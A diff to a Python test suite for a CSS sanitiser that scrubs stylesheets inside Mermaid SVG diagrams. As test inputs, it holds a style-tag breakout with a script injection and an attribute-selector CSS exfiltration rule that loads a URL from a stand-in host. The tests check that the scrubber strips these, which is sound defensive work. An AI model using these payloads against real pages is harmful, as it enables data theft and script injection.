@@ -68,7 +68,6 @@ def test_keyframe_selectors_are_not_scope_checked() -> None:
         "@-moz-document url-prefix(){#my-svg{fill:red}}",
         "@font-face{font-family:x;src:url(https://x/f.woff)}",
         "@font-face{font-family:x;src:url(data:text/css;base64,AA==)}",
-        "#my-svg [title^='a']{fill:red}",
         "#my-svg &{fill:red}",
         "#my-svg .a{.b{fill:red}}",
         "#my-svg .a{fill:red}</style><script>alert(1)</script>",
@@ -189,3 +188,16 @@ def test_deeply_nested_css_is_dropped_instead_of_overflowing_the_stack() -> None
     )
     assert scrub_declarations("fill:" + deep)[0] == ""
     assert check_css_value("calc" + deep) == "CSS nested too deeply"
+
+
+def test_mermaids_own_substring_attribute_selector_survives():
+    # Regression: sequence diagrams style arrow heads with [id$="-crosshead"].
+    css = '#m1 [id$="-crosshead"] path{fill:#333;stroke:#333;}'
+    scrubbed, warnings = scrub_stylesheet(css, scope_id="m1")
+    assert (scrubbed, warnings) == (css, [])
+
+
+def test_attribute_selector_exfiltration_loses_its_request():
+    scrubbed, warnings = scrub_stylesheet('#m1 [data-x^="a"]{background:url(https://x.example/a)}', scope_id="m1")
+    assert "url(" not in scrubbed
+    assert warnings
